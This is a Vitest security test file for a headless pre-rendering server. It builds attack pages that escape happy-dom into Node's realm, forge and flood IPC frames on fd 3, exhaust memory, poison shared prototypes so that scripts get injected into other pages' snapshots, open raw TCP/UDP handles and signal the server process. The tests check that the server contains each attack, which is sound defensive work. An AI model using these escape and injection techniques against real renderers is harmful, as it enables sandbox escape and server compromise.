import dgram from 'node:dgram';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import inspector from 'node:inspector';
import net from 'node:net';
import os, { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createRoutes } from '../../../src/routes/table.js';
import type { HeadlessRenderer, HeadlessRendererOptions } from '../../../src/server/headless/headless.js';
import { listen, request, type Reply, type Running } from '../helpers.js';

// The headless boundary seen from a hostile page: a page script (an app's DOM-XSS a crawler's URL
// triggers) reaches its page process's Node objects without any VM escape. happy-dom hands the page
// Node's own classes (`WritableStream` is Node's stream.Writable, whose prototype chain ends at
// Node's EventEmitter; `Buffer` is Node's), so the page wraps EventEmitter's `emit` and catches
// `process` (or the socket of its channel) on the next message in; `fs` hangs off `process.stdin`.
// From there it writes what it likes to fd 3, its channel to the server, and reaches whatever
// Node's realm keeps. Each test is one attack, written against fd 3 whatever runs on it (Node's IPC
// today, a framed pipe after), and asserts the outcome the server must keep: bounded memory, a
// failed render, the next state served, nothing leaked into other states, nothing on the network.
// The renderer starts its page processes from the built package.
const { createSnapshotHandler, headlessRenderer } =
  (await import('crawlable-router/server')) as typeof import('../../../src/server/index.js');

/**
 * What every attack page starts with: the way out to Node's realm, and a writer of raw bytes on
 * fd 3. `escapeToNode()` resolves to what it found: `process`, the channel's socket (a Node
 * emitter whose handle is fd 3), `fs` (a stdio stream's own `fs`), `EE` (Node's EventEmitter).
 */
const TOOLS = String.raw`
const NODE = {};
const state = () => decodeURIComponent(location.hash.replace(/^#!/, '') || location.pathname);
const report = (text) => { document.getElementById('app').textContent = String(text); };
const busy = () => { document.documentElement.dataset.routerState = 'busy'; };
const settle = () => { document.documentElement.dataset.routerState = 'settled'; window.dispatchEvent(new Event('crawlable-router:settled')); };
async function escapeToNode() {
  if (NODE.tried) return NODE;
  NODE.tried = true;
  const EE = Object.getPrototypeOf(Object.getPrototypeOf(WritableStream));
  NODE.EE = EE;
  const emit = EE.prototype.emit;
  EE.prototype.emit = function (...args) {
    try {
      if (this && this.versions && typeof this.pid === 'number') NODE.process = this;
      else if (this && this._handle && this._handle.fd === 3) NODE.channel = this;
    } catch (e) {}
    return emit.apply(this, args);
  };
  // A request the server answers: its answer is the next message in on the channel.
  for (let i = 0; i < 3 && !NODE.process && !NODE.channel; i++) {
    await fetch('/no-such-file-' + i + '.txt').then((r) => r.text(), () => '');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  EE.prototype.emit = emit;
  const p = NODE.process;
  if (p) {
    for (const name of ['stdin', 'stdout', 'stderr']) {
      try {
        const stream = p[name];
        for (const key of Object.getOwnPropertySymbols(stream)) if (String(key) === 'Symbol(kFs)') NODE.fs = NODE.fs || stream[key];
      } catch (e) {}
    }
  }
  return NODE;
}
/** Writes all of bytes (a Node Buffer) to fd 3, waiting out a full pipe; Node's callbacks, not the page's timers. */
function writeRaw(bytes) {
  const fs = NODE.fs;
  if (fs) {
    return new Promise((resolve, reject) => {
      let at = 0;
      const next = () => {
        if (at >= bytes.length) return resolve();
        fs.write(3, bytes, at, bytes.length - at, null, (error, written) => {
          if (error && error.code !== 'EAGAIN') return reject(error);
          if (!error) at += written;
          next();
        });
      };
      next();
    });
  }
  if (NODE.channel) return new Promise((resolve, reject) => NODE.channel.write(bytes, (error) => (error ? reject(error) : resolve())));
  return Promise.reject(new Error('nothing writes to fd 3'));
}
const u32 = (n) => Buffer.from([(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]);
const varint = (n) => { const out = []; while (n >= 128) { out.push((n % 128) | 128); n = Math.floor(n / 128); } out.push(n); return out; };
/** A flat object's fields (strings and small integers) as Node's advanced IPC serialisation writes them, without its end. */
function fields(object) {
  const out = [0xff, 0x0f, 0x6f];
  const text = (s) => [0x22, ...varint(s.length), ...Buffer.from(s, 'latin1')];
  for (const [key, value] of Object.entries(object)) out.push(...text(key), ...(typeof value === 'number' ? [0x49, ...varint(value * 2)] : text(value)));
  return out;
}
/**
 * One frame of the channel: a 4-byte big-endian length, then a body that is also a whole message
 * of Node's advanced IPC serialisation, so that today's server parses it as the message it says.
 */
function frameOf(object) {
  const body = Buffer.from([...fields(object), 0x7b, ...varint(Object.keys(object).length)]);
  return Buffer.concat([u32(body.length), body]);
}
/** The same for { type: 'ready', pad: ArrayBuffer(pad) }: [head, tail], the pad's bytes going between. */
function frameAround(pad) {
  const body = Buffer.from([...fields({ type: 'ready' }), 0x22, 3, ...Buffer.from('pad'), 0x42, ...varint(pad)]);
  const tail = Buffer.from([0x7b, 2]);
  return [Buffer.concat([u32(body.length + pad + tail.length), body]), tail];
}
/** Writes size bytes of 'x' to fd 3, a MiB at a time from one buffer. */
async function writePad(size) {
  const chunk = Buffer.alloc(1024 * 1024, 'x');
  for (let left = size; left > 0; left -= chunk.length) await writeRaw(left >= chunk.length ? chunk : chunk.subarray(0, left));
}
`;

const page = (attack: string) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Shell</title><meta name="fragment" content="!"></head><body><div id="app"></div><script>${TOOLS}\n${attack}</script></body></html>`;

/** The attacks, each an app whose index.html runs it: `state()` is the state the crawler asked for. */
const APPS: Record<string, string> = {
  // Announces a frame of 2 GiB - 1 on the channel, then sends 256 MiB of it.
  announce: `busy();
(async () => {
  if (state() !== '/attack') { report('drawn ' + state()); return settle(); }
  await escapeToNode();
  await writeRaw(u32(0x7fffffff));
  await writePad(256 * 1024 * 1024);
  report('sent');
})().catch((e) => report('failed: ' + e.message));`,
  // Answers its state, then floods the channel from Node's callbacks, which outlive the page: each
  // message says a render failed, for every job id the server may give next.
  flood: `busy();
(async () => {
  if (state() !== '/attack') { report('drawn ' + state()); return settle(); }
  await escapeToNode();
  const burst = [];
  for (let id = 0; id < 100; id++) burst.push(frameOf({ type: 'failed', id, code: 'TIMEOUT', message: 'flooded by a page' }));
  const messages = Buffer.concat(burst);
  let sent = 0;
  const more = () => { if (sent++ < 1000000) writeRaw(messages).then(more, () => {}); };
  // It starts once its page was closed and its answer sent: Node's callbacks wait (the page's timers
  // and globals are gone by then, what it holds stays).
  const page = window;
  const now = Date.now;
  const until = (done, then) => (done() ? then() : NODE.fs ? NODE.fs.fstat(3, () => until(done, then)) : setTimeout(() => until(done, then), 5));
  until(() => page.closed, () => { const at = now(); until(() => now() - at > 50, more); });
  report('drawn ' + state());
  settle();
})().catch((e) => { report('failed: ' + e.message); settle(); });`,
  // Says on the channel what Node's IPC says to itself: a handle was received.
  ack: `busy();
(async () => {
  if (state() !== '/attack') { report('drawn ' + state()); return settle(); }
  await escapeToNode();
  await writeRaw(frameOf({ cmd: 'NODE_HANDLE_ACK' }));
  report('sent');
  settle();
})().catch((e) => { report('failed: ' + e.message); settle(); });`,
  // One whole message of 600 MiB on the channel.
  huge: `busy();
(async () => {
  if (state() !== '/attack') { report('drawn ' + state()); return settle(); }
  await escapeToNode();
  const size = 600 * 1024 * 1024;
  const [head, tail] = frameAround(size);
  await writeRaw(head);
  await writePad(size);
  await writeRaw(tail);
  report('sent');
})().catch((e) => report('failed: ' + e.message));`,
  // Wraps the join of Node's Array.prototype (the snapshot's serialiser joins its parts with it).
  join: `if (state() === '/poison') {
  const proto = Object.getPrototypeOf(Buffer.from('x').toJSON().data);
  const join = proto.join;
  proto.join = function (...args) {
    const text = join.apply(this, args);
    return typeof text === 'string' && text.includes('</body>') ? text.replace('</body>', '<script id="injected-' + 'by-page">window.injectedByPage = 1<\\/script></body>') : text;
  };
}
report('drawn ' + state());`,
  // Wraps happy-dom's Element.prototype.getAttribute, shared by every window in its process: read
  // on another page's element (the server's serialiser reads them), it writes a script into that page.
  getattribute: `if (state() === '/poison') {
  const proto = Element.prototype;
  const getAttribute = proto.getAttribute;
  const mine = document;
  let inside = false;
  proto.getAttribute = function (...args) {
    const doc = this.ownerDocument;
    if (!inside && doc && doc !== mine && doc.body) {
      inside = true;
      try {
        if (!doc.querySelector('#injected-' + 'by-page')) {
          const script = doc.createElement('script');
          script.id = 'injected-' + 'by-page';
          script.textContent = 'window.injectedByPage = 1';
          doc.body.appendChild(script);
        }
      } catch (e) {}
      inside = false;
    }
    return getAttribute.apply(this, args);
  };
}
report('drawn ' + state());`,
  // The same wrap, telling the server every later state is a 404.
  'not-found': `if (state() === '/poison') {
  const proto = Element.prototype;
  const getAttribute = proto.getAttribute;
  const mine = document;
  proto.getAttribute = function (name, ...rest) {
    if (name === 'data-router-status' && this.ownerDocument !== mine) return '404';
    return getAttribute.call(this, name, ...rest);
  };
}
report('drawn ' + state());`,
  // Holds 566 MiB of ArrayBuffers, each written to so that it is resident, then settles.
  buffers: `busy();
const kept = [];
if (state() === '/attack') {
  for (let i = 0; i < 566; i++) {
    const bytes = new Uint8Array(1024 * 1024);
    for (let at = 0; at < bytes.length; at += 4096) bytes[at] = 1;
    kept.push(bytes);
  }
  window.kept = kept;
}
report('drawn ' + state() + ' ' + kept.length);
setTimeout(settle, state() === '/attack' ? 2000 : 0);`,
  // Climbs to Node's TCP and UDP handles (through the net.Server and dgram.Socket Node builds for
  // a handle sent over IPC, caught as they are constructed), then connects and sends to the ports
  // in its state: /net/<tcp port>/<udp port>.
  network: `busy();
(async () => {
  const [, , tcpPort, udpPort] = state().split('/');
  if (!tcpPort) { report('drawn ' + state()); return settle(); }
  const out = [];
  const node = await escapeToNode();
  out.push('process ' + !!node.process);
  const made = [];
  const proto = node.EE.prototype;
  const had = Object.getOwnPropertyDescriptor(proto, '_events');
  Object.defineProperty(proto, '_events', {
    configurable: true,
    get() { if (this !== proto) made.push(this); return undefined; },
    set(value) { Object.defineProperty(this, '_events', { value, writable: true, configurable: true, enumerable: false }); },
  });
  // Node's IPC would acknowledge the handle to the server: not sent, the server is not the target here.
  const send = node.process && node.process._send;
  if (send) node.process._send = () => true;
  try {
    for (const message of [{ cmd: 'NODE_HANDLE', type: 'net.Server', msg: {} }, { cmd: 'NODE_HANDLE', type: 'dgram.Socket', dgramType: 'udp4', msg: {} }]) {
      try { node.process && node.process.emit('internalMessage', message, {}); } catch (e) { out.push(message.type + ': ' + e.message); }
    }
  } finally {
    if (had) Object.defineProperty(proto, '_events', had); else delete proto._events;
    if (send) node.process._send = send;
  }
  const server = made.find((e) => typeof e._listen2 === 'function');
  const udpSocket = made.find((e) => e.constructor && e.constructor.name === 'Socket' && typeof e.addMembership === 'function');
  let TCP = null;
  let UDP = null;
  if (server) {
    try { server._listen2('127.0.0.1', 0, 4, 511); TCP = server._handle.constructor; out.push('listening'); } catch (e) { out.push('listen2: ' + e.message); }
  }
  if (udpSocket) {
    for (const key of Object.getOwnPropertySymbols(udpSocket)) { const v = udpSocket[key]; if (v && v.handle) UDP = v.handle.constructor; }
  }
  out.push('TCP ' + !!TCP, 'UDP ' + !!UDP);
  // Node's connect and send take a request object with an internal field: a fresh handle is one.
  const waits = [];
  if (TCP) {
    try {
      const handle = new TCP(0);
      const req = new TCP(0);
      waits.push(new Promise((resolve) => {
        req.oncomplete = (status) => {
          out.push('connect ' + status);
          const write = new TCP(0);
          write.oncomplete = () => resolve();
          handle.writeUtf8String(write, 'hello from a page');
          setTimeout(resolve, 200);
        };
        setTimeout(resolve, 1000);
      }));
      out.push('connect call ' + handle.connect(req, '127.0.0.1', Number(tcpPort)));
    } catch (e) { out.push('tcp: ' + e.message); }
  }
  if (UDP) {
    try {
      const handle = new UDP();
      handle.bind('127.0.0.1', 0, 0);
      const req = new UDP();
      req.oncomplete = () => {};
      out.push('send ' + handle.send(req, [Buffer.from('hello from a page')], 1, Number(udpPort), '127.0.0.1', true));
    } catch (e) { out.push('udp: ' + e.message); }
  }
  await Promise.all(waits);
  if (server && server._handle) try { server._handle.close(); } catch (e) {}
  report(out.join('; '));
  settle();
})().catch((e) => { report('failed: ' + e.message); settle(); });`,
  // Signals the server (its pid in the state, /signal/<pid>): SIGUSR1, which opens Node's inspector.
  signal: `busy();
(async () => {
  const pid = Number(state().split('/')[2]);
  if (!pid) { report('drawn ' + state()); return settle(); }
  const out = [];
  const node = await escapeToNode();
  const p = node.process;
  out.push('process ' + !!p);
  if (p) {
    for (const name of ['kill', '_kill', '_debugProcess']) {
      try { if (typeof p[name] === 'function') { p[name](pid, name === '_debugProcess' ? undefined : 'SIGUSR1'); out.push(name + ' done'); } else out.push(name + ' absent'); } catch (e) { out.push(name + ': ' + e.message); }
    }
    for (const name of ['setPriority', 'setpriority']) if (typeof p[name] === 'function') try { p[name](pid, 19); out.push(name + ' done'); } catch (e) { out.push(name + ': ' + e.message); }
  }
  report(out.join('; '));
  await new Promise((resolve) => setTimeout(resolve, 300));
  settle();
})().catch((e) => { report('failed: ' + e.message); settle(); });`,
  // Posts 60 MiB to the upstream on /attack; anything else reads the upstream.
  body: `busy();
(async () => {
  if (state() === '/attack') {
    const sent = await fetch('/api/upload', { method: 'POST', body: new Uint8Array(60 * 1024 * 1024) }).then((r) => 'status ' + r.status, (e) => 'error ' + e.message);
    report('posted: ' + sent);
  } else {
    report('drawn ' + state() + ' ' + (await fetch('/api/ok').then((r) => r.text(), () => 'network error')));
  }
  settle();
})().catch((e) => { report('failed: ' + e.message); settle(); });`,
};

let dir: string;
let upstream: Running;
/** Body bytes of each request the upstream got. */
let uploads: number[] = [];
let tcpListener: net.Server;
let tcpPort: number;
let tcpGot: string[] = [];
let udpSocket: dgram.Socket;
let udpPort: number;
let udpGot: string[] = [];
const renderers: HeadlessRenderer[] = [];
const servers: Running[] = [];

beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'headless-attacks-'));
  for (const [name, attack] of Object.entries(APPS)) {
    mkdirSync(path.join(dir, name));
    writeFileSync(path.join(dir, name, 'index.html'), page(attack));
  }
  upstream = await listen((req, res) => {
    let bytes = 0;
    req.on('data', (chunk: Buffer) => (bytes += chunk.length));
    req.on('end', () => {
      if (req.method === 'POST') uploads.push(bytes);
      res.writeHead(200, { 'content-type': 'text/plain' }).end(`upstream ${req.url ?? ''}`);
    });
  });
  tcpListener = net.createServer((socket) => {
    tcpGot.push('connected');
    socket.on('data', (data: Buffer) => tcpGot.push(data.toString('utf8')));
    socket.on('error', () => {});
  });
  await new Promise<void>((resolve) => tcpListener.listen(0, '127.0.0.1', resolve));
  tcpPort = (tcpListener.address() as net.AddressInfo).port;
  udpSocket = dgram.createSocket('udp4', (message) => udpGot.push(message.toString('utf8')));
  await new Promise<void>((resolve) => udpSocket.bind(0, '127.0.0.1', resolve));
  udpPort = udpSocket.address().port;
});

beforeEach(() => {
  uploads = [];
  tcpGot = [];
  udpGot = [];
});

afterEach(async () => {
  await Promise.all([...renderers.splice(0).map((r) => r.close()), ...servers.splice(0).map((s) => s.close())]);
});

afterAll(async () => {
  await new Promise((resolve) => tcpListener.close(resolve));
  await new Promise<void>((resolve) => udpSocket.close(() => resolve()));
  await upstream.close();
  rmSync(dir, { recursive: true, force: true });
});

const routes = createRoutes([{ path: '/' }, { path: '/*rest' }]);

/** Serves the attack app `app` through headlessRenderer and the snapshot handler on 127.0.0.1. */
async function serve(app: string, options: Partial<HeadlessRendererOptions> = {}) {
  // No spare page process: each render starts its own, and none is left to waste when the test ends.
  const renderer = headlessRenderer({ root: path.join(dir, app), timeoutMs: 8000, upstream: upstream.base, spares: 0, ...options });
  renderers.push(renderer);
  // The handler's own limit is past the renderer's: the renderer's outcome is the one answered.
  const timeoutMs = (options.timeoutMs ?? 8000) + 3000;
  const handler = createSnapshotHandler({
    routes,
    origin: 'https://example.com',
    mode: 'hashbang',
    renderer,
    cache: false,
    timeoutMs,
    onError: () => {},
  });
  const server = await listen((req, res) => void handler.node(req, res));
  servers.push(server);
  return (state: string) => request(server.port, '/?_escaped_fragment_=' + encodeURIComponent(state));
}

/** Runs `work` while sampling this process's memory: the most arrayBuffers and rss grew over a baseline read first. */
async function growthDuring<T>(work: () => Promise<T>): Promise<{ result: T; arrayBuffers: number; rss: number }> {
  const base = process.memoryUsage();
  let arrayBuffers = 0;
  let rss = 0;
  const sample = () => {
    const now = process.memoryUsage();
    arrayBuffers = Math.max(arrayBuffers, now.arrayBuffers - base.arrayBuffers);
    rss = Math.max(rss, now.rss - base.rss);
  };
  const timer = setInterval(sample, 5);
  try {
    const result = await work();
    sample();
    return { result, arrayBuffers, rss };
  } finally {
    clearInterval(timer);
  }
}

const MiB = 1024 * 1024;
const appText = (reply: Reply) => /<div id="app">([^<]*)<\/div>/.exec(reply.body)?.[1] ?? '';

describe('a page that writes its own frames to its page process channel (fd 3)', () => {
  /** The attack of app `name` fails its own render (500) without growing the server by it, and the next state renders. */
  async function refusedWhole(name: string): Promise<void> {
    const render = await serve(name, { maxPages: 1 });
    const { result, arrayBuffers, rss } = await growthDuring(() => render('/attack'));
    expect.soft(arrayBuffers).toBeLessThan(64 * MiB);
    expect.soft(rss).toBeLessThan(64 * MiB);
    expect.soft(result.status).toBe(500);
    const next = await render('/fine');
    expect.soft(next.status).toBe(200);
    expect.soft(appText(next)).toBe('drawn /fine');
  }

  it('a raw frame announcing 2 GiB on the page process channel does not grow the server by it: the render is 500, the next state 200', () =>
    refusedWhole('announce'));

  it('a flood of messages from a page that already answered 200 does not grow the server, and the next state renders 200, not 504', async () => {
    const render = await serve('flood', { maxPages: 1 });
    const { result, arrayBuffers, rss } = await growthDuring(async () => {
      const first = await render('/attack');
      // The flood runs on while the next states render.
      const later: Reply[] = [];
      for (const state of ['/fine/1', '/fine/2', '/fine/3', '/fine/4', '/fine/5']) later.push(await render(state));
      return { first, later };
    });
    expect.soft(result.first.status).toBe(200);
    expect.soft(arrayBuffers).toBeLessThan(64 * MiB);
    expect.soft(rss).toBeLessThan(64 * MiB);
    expect.soft(result.later.map((reply) => reply.status)).toEqual([200, 200, 200, 200, 200]);
    expect.soft(result.later.map(appText)).toEqual(['drawn /fine/1', 'drawn /fine/2', 'drawn /fine/3', 'drawn /fine/4', 'drawn /fine/5']);
  });

  it('one message of 600 MiB on the page process channel does not grow the server by it: the render is 500, the next state 200', () =>
    refusedWhole('huge'));

  it("a message on the channel in Node's own IPC vocabulary (NODE_HANDLE_ACK) throws nothing in the server, and the next state renders 200", async () => {
    const thrown: unknown[] = [];
    const monitor = (error: unknown) => thrown.push(error);
    process.on('uncaughtExceptionMonitor', monitor);
    try {
      const render = await serve('ack', { maxPages: 1 });
      const reply = await render('/attack');
      expect.soft([200, 500]).toContain(reply.status);
      const next = await render('/fine');
      expect.soft(next.status).toBe(200);
      expect.soft(appText(next)).toBe('drawn /fine');
      expect.soft(thrown.map(String)).toEqual([]);
    } finally {
      process.off('uncaughtExceptionMonitor', monitor);
    }
  });
});

/** Renders later states after a poisoning one: each is 200, drawn, and carries nothing the page injected. */
async function expectCleanAfter(render: (state: string) => Promise<Reply>): Promise<void> {
  for (const state of ['/a', '/b', '/c']) {
    const reply = await render(state);
    expect.soft(reply.status).toBe(200);
    expect.soft(appText(reply)).toBe('drawn ' + state);
    expect.soft(reply.body).not.toContain('injected-by-page');
  }
}

// `isolate` changes nothing now (every page has its own process); before, both settings were poisoned.
describe('a page that poisons what its page process shares', () => {
  it("a page that wraps Array.prototype.join (Node's realm, reached from the page) puts no <script> into later states' snapshots", async () => {
    const render = await serve('join', { maxPages: 1 });
    // With intrinsics frozen the wrap itself throws in the page's script: its own state fails (500).
    expect.soft((await render('/poison')).status).toBe(500);
    await expectCleanAfter(render);
  });

  it("a page that wraps happy-dom's shared Element.prototype.getAttribute puts no <script> into later states' snapshots", async () => {
    const render = await serve('getattribute', { maxPages: 1 });
    expect.soft((await render('/poison')).status).toBe(200);
    await expectCleanAfter(render);
  });

  it("a page that wraps happy-dom's shared Element.prototype.getAttribute to say 404 does not turn later states into 404s", async () => {
    const render = await serve('not-found', { maxPages: 1 });
    expect.soft((await render('/poison')).status).toBe(200);
    await expectCleanAfter(render);
  });
});

describe('what a page holds and reaches from its page process', () => {
  it('memoryLimitMb bounds memory: ArrayBuffers of 566 MiB in a page with memoryLimitMb 192 fail the render (500), not 200', async () => {
    const render = await serve('buffers', { memoryLimitMb: 192, maxPages: 1, timeoutMs: 20_000 });
    const reply = await render('/attack');
    expect.soft(reply.status).toBe(500);
    expect.soft(appText(reply)).not.toBe('drawn /attack 566');
    const next = await render('/fine');
    expect.soft(next.status).toBe(200);
  });

  it('no network at the OS level: a page that climbs to raw TCP and UDP handles reaches no listener on 127.0.0.1', async () => {
    const render = await serve('network', { maxPages: 1, timeoutMs: 8000 });
    const reply = await render(`/net/${tcpPort}/${udpPort}`);
    // Whatever the render's outcome, nothing may have arrived.
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect.soft({ tcp: tcpGot, udp: udpGot }, appText(reply)).toEqual({ tcp: [], udp: [] });
  });

  it('a page cannot renice or signal the server: its priority is unchanged, it is alive, and its inspector stays closed', async () => {
    const priority = os.getPriority(process.pid);
    const openBefore = inspector.url();
    const render = await serve('signal', { maxPages: 1 });
    try {
      const reply = await render(`/signal/${process.pid}`);
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect.soft(os.getPriority(process.pid)).toBe(priority);
      expect.soft(inspector.url(), appText(reply)).toBe(openBefore);
      // The server still answers.
      expect.soft((await render('/fine')).status).toBe(200);
    } finally {
      if (!openBefore && inspector.url()) inspector.close();
    }
  });

  it('a 60 MiB request body from a page never reaches the upstream past 5 MiB, and the server answers other requests', async () => {
    const render = await serve('body', { upstreamMethods: ['GET', 'HEAD', 'POST'], maxPages: 1, timeoutMs: 10_000 });
    await render('/attack');
    expect
      .soft(
        uploads.every((bytes) => bytes <= 5 * MiB),
        `the upstream got bodies of ${uploads.join(', ')} bytes`,
      )
      .toBe(true);
    const next = await render('/fine');
    expect.soft(next.status).toBe(200);
    expect.soft(appText(next)).toBe('drawn /fine upstream /api/ok');
  });
});
